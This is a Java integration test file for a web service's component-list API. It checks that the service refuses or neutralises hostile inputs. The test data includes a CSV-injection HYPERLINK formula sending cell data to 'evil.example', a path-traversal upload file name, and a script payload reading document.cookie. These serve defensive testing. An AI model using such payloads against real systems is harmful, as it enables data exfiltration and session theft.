package uk.secgov.cpl;

import static org.assertj.core.api.Assertions.assertThat;
import static uk.secgov.cpl.FormFixtures.csv;
import static uk.secgov.cpl.FormFixtures.esme;
import static uk.secgov.cpl.FormFixtures.with;
import static uk.secgov.it.CplSubmissionSteps.SUBMISSIONS;
import static uk.secgov.it.CplSubmissionSteps.newEsmeForm;
import static uk.secgov.it.CplSubmissionSteps.newHash;
import static uk.secgov.it.CplSubmissionSteps.newModel;

import jakarta.json.JsonObject;
import jakarta.json.JsonValue;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import org.awaitility.Awaitility;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import uk.secgov.it.Api;
import uk.secgov.it.CplSubmissionSteps;
import uk.secgov.it.Deployments;

/**
 * The hostile review's CPL inputs (issue 11): a formula accepted through review reaches the public CSV
 * as text; a withdrawal without a reason, a 1 MB delegation rationale, a control character and an
 * uploaded HTML page are refused or served harmlessly, over HTTP, and nothing is stored.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class CplHostileInputIT {

    private static CplSubmissionSteps cpl;

    @Deployment(testable = false)
    static WebArchive war() {
        return Deployments.realWar();
    }

    @ArquillianResource
    URL base;

    @BeforeEach
    void aTestIkiOnTheServer() throws Exception {
        if (cpl == null) {
            cpl = CplSubmissionSteps.registered(base);
        }
    }

    private static List<String> fields(Api.Reply reply) {
        assertThat(reply.contentType()).startsWith("application/problem+json");
        return reply.json().getJsonArray("errors").stream().map(e -> e.asJsonObject().getString("field")).toList();
    }

    private long partyId(String name) {
        return Api.demo(base, "admin").get("api/v1/parties?size=500").json().getJsonArray("items").stream()
                .map(JsonValue::asJsonObject).filter(p -> name.equals(p.getString("name"))).findFirst().orElseThrow()
                .getJsonNumber("id").longValue();
    }

    @Test
    void aFormulaAcceptedThroughReviewIsExportedAsText() throws Exception {
        String model = newModel();
        String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")";
        String cpa = "+CPA-" + model;
        byte[] form = csv(with(with(with(esme("38040404", newHash()), FormColumn.MODEL_ID, model),
                FormColumn.MODEL_NAME, formula), FormColumn.CPA_CERTIFICATE, cpa));
        cpl.associated("supplier", form, cpl.pki.countersign(form, cpl.pki.maker, cpl.pki.bright));

        String export = Api.anonymous(base).get("api/v1/cpl/export.csv", "text/csv").body();

        String line = export.lines().filter(l -> l.contains(model)).findFirst().orElseThrow();
        assertThat(line).contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Click\"\")\"")
                .contains(",'" + cpa + ",").doesNotContain(",=").doesNotContain(",\"=").doesNotContain(",+");
        // The API still gives the values as recorded: only the spreadsheet file is neutralised.
        JsonObject entry = Api.anonymous(base).get("api/v1/cpl/entries?q=" + model.toLowerCase()).json()
                .getJsonArray("items").getJsonObject(0);
        assertThat(entry.getString("modelName")).isEqualTo(formula);
    }

    @Test
    void aWithdrawalNeedsAReason() throws Exception {
        String reference = cpl.awaitingReview(newEsmeForm());
        Api supplier = Api.demo(base, "supplier");

        Api.Reply empty = supplier.post(SUBMISSIONS + "/" + reference + "/withdraw", "{}");
        Api.Reply blank = supplier.post(SUBMISSIONS + "/" + reference + "/withdraw", "{\"reason\":\"  \"}");
        Api.Reply bell = supplier.post(SUBMISSIONS + "/" + reference + "/withdraw", "{\"reason\":\"Oops\\u0007\"}");

        assertThat(empty.status()).as(empty.body()).isEqualTo(400);
        assertThat(fields(empty)).containsExactly("reason");
        assertThat(fields(blank)).containsExactly("reason");
        assertThat(fields(bell)).containsExactly("reason");
        assertThat(supplier.get(SUBMISSIONS + "/" + reference).json().getString("status")).isEqualTo("AWAITING_REVIEW");
        assertThat(supplier.post(SUBMISSIONS + "/" + reference + "/withdraw", "{\"reason\":\"Wrong file\"}").status())
                .isEqualTo(200);
    }

    @Test
    void aMegabyteRationaleOrAControlCharacterChangesNoDelegation() {
        Api panel = Api.demo(base, "panel");
        String before = panel.get("api/v1/cpl/panel-delegation").body();

        Api.Reply huge = panel.post("api/v1/cpl/panel-delegation",
                "{\"delegated\":true,\"rationale\":\"" + "x".repeat(1024 * 1024) + "\"}");
        Api.Reply nul = panel.post("api/v1/cpl/panel-delegation",
                "{\"delegated\":true,\"rationale\":\"Minute 7\\u0000\"}");

        assertThat(huge.status()).as(huge.body()).isEqualTo(400);
        assertThat(fields(huge)).containsExactly("rationale");
        assertThat(huge.body()).contains("at most 4000 characters");
        assertThat(nul.status()).as(nul.body()).isEqualTo(400);
        assertThat(fields(nul)).containsExactly("rationale");
        assertThat(panel.get("api/v1/cpl/panel-delegation").body()).isEqualTo(before);
    }

    @Test
    void uploadedEvidenceIsServedAsAnAttachmentTheProductTypesNotAsTheUploadersPage() throws Exception {
        // A current Hash from Volt Supply, then Bright Energy's different Hash: a conflict to investigate.
        String model = newModel();
        byte[] first = csv(with(esme("38040404", newHash()), FormColumn.MODEL_ID, model));
        cpl.associated("supplier2", first, cpl.pki.sign(first, cpl.pki.maker, cpl.pki.volt));
        byte[] second = csv(with(esme("38040404", newHash()), FormColumn.MODEL_ID, model));
        String conflicting = cpl.submit("supplier", second, cpl.pki.countersign(second, cpl.pki.maker,
                cpl.pki.bright));
        cpl.awaitStatus("secas", conflicting, "UNDER_INVESTIGATION");
        Api secas = Api.demo(base, "secas");
        long entryId = Api.anonymous(base).get("api/v1/cpl/entries?q=" + model.toLowerCase()).json()
                .getJsonArray("items").getJsonObject(0).getJsonNumber("entryId").longValue();
        String investigation = Awaitility.await().atMost(Duration.ofSeconds(60)).until(() ->
                secas.get("api/v1/cpl/investigations?size=500").json().getJsonArray("items").stream()
                        .map(JsonValue::asJsonObject).filter(i -> i.getJsonNumber("entryId").longValue() == entryId)
                        .map(i -> i.getString("reference")).findFirst().orElse(null), r -> r != null);
        cpl.complete("secas", investigation, "Open the investigation", "{\"note\":\"Two Hashes\"}");
        Api.Reply asked = secas.post("api/v1/cpl/investigations/" + investigation + "/requests",
                "{\"partyId\":" + partyId("Volt Supply") + ",\"question\":\"Where did the Hash come from?\",\"workingDays\":5}");
        assertThat(asked.status()).as(asked.body()).isEqualTo(201);
        String answerPath = "api/v1/cpl/investigations/" + investigation + "/requests/"
                + asked.json().getJsonNumber("id").longValue() + "/answer";
        Api volt = Api.demo(base, "supplier2");
        Api.Part page = new Api.Part("evidence", "../../tmp/evil<script>.html", "text/html",
                "<script>alert(document.cookie)</script>".getBytes(StandardCharsets.UTF_8));

        Api.Reply bell = volt.postParts(answerPath, List.of(new Api.Part("answer", null, "text/plain; charset=UTF-8",
                "From the notes\u0007".getBytes(StandardCharsets.UTF_8)), page));
        assertThat(bell.status()).as(bell.body()).isEqualTo(400);
        assertThat(fields(bell)).containsExactly("answer");
        Api.Reply answered = volt.postParts(answerPath, List.of(new Api.Part("answer", null,
                "text/plain; charset=UTF-8", "From the release notes".getBytes(StandardCharsets.UTF_8)), page));
        assertThat(answered.status()).as(answered.body()).isEqualTo(204);

        Api.Reply evidence = secas.get(answerPath.replace("/answer", "/evidence"), "*/*");
        assertThat(evidence.status()).isEqualTo(200);
        assertThat(evidence.contentType()).isEqualTo("application/octet-stream");
        assertThat(evidence.header("Content-Disposition")).isEqualTo("attachment; filename=\"evil_script_.html\"");
        assertThat(evidence.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(evidence.header("Cache-Control")).isEqualTo("no-store");
    }
}
